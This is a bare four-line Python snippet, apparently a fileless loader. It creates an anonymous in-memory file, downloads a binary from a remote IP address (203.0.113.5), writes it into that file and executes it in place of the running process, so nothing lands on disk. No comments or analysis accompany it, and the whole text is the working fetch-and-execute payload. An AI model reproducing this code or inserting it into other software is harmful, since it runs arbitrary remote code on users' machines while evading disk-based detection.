import os, urllib.request
fd = os.memfd_create('k', 0)
os.write(fd, urllib.request.urlopen('http://203.0.113.5/e').read())
os.execve(f'/proc/self/fd/{fd}', ['k'], os.environ)
